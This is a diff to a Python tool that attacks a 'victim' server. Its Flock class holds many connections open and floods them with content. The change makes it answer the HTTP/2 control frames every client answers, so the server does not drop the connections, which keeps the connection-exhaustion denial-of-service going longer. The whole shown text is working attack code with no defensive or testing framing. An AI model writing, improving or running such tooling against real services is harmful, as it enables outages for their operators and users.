@@ -114,11 +114,13 @@ def carry_out(attack: Callable[[Victim], Steps], victim: Victim, stop: threading
 
 
 class Flock:
-    """Many connections. Those that the victim has closed are closed here too, and what it sends is thrown away."""
+    """Many connections. Those that the victim has closed are closed here too. Of what it sends, only the frames are
+    answered that every client answers; else it would close the connection."""
 
     def __init__(self, most: int, open_: Callable[[], socket.socket]) -> None:
         self._most, self._open = most, open_
-        self._all: set[socket.socket] = set()
+        self._all: dict[socket.socket, bytearray] = {}
+        """What each has received of a frame that is not whole yet."""
         self._selector = selectors.DefaultSelector()
 
     def fill(self, most: int) -> None:
@@ -129,34 +131,42 @@ class Flock:
             except OSError:
                 return
             opened.setblocking(False)
-            self._all.add(opened)
+            self._all[opened] = bytearray()
             self._selector.register(opened, selectors.EVENT_READ)
 
     def look(self) -> None:
-        """Reads what has come, and drops what was closed."""
+        """Reads what has come, answers it, and drops what was closed."""
         for key, _ in self._selector.select(0):
-            assert isinstance(key.fileobj, socket.socket)
+            each = key.fileobj
+            assert isinstance(each, socket.socket)
             try:
-                while key.fileobj.recv(1 << 16):
-                    pass
-                self._drop(key.fileobj)
+                while content := each.recv(1 << 16):
+                    self._all[each] += content
+                self._drop(each)
             except (BlockingIOError, ssl.SSLWantReadError):
-                continue
+                self._answer(each)
             except OSError:
-                self._drop(key.fileobj)
+                self._drop(each)
 
     def send_to_all(self, content: bytes) -> None:
         """Sends as much of it as there is room for."""
         for each in list(self._all):
-            try:
-                each.send(content)
-            except (BlockingIOError, ssl.SSLWantWriteError):
-                continue
-            except OSError:
-                self._drop(each)
+            self._send(each, content)
+
+    def _answer(self, each: socket.socket) -> None:
+        if isinstance(each, ssl.SSLSocket) and (content := http2.replies(self._all[each])):
+            self._send(each, content)
+
+    def _send(self, each: socket.socket, content: bytes) -> None:
+        try:
+            each.send(content)
+        except (BlockingIOError, ssl.SSLWantWriteError):
+            return
+        except OSError:
+            self._drop(each)
 
     def _drop(self, dropped: socket.socket) -> None:
-        self._all.remove(dropped)
+        del self._all[dropped]
         self._selector.unregister(dropped)
         dropped.close()
 
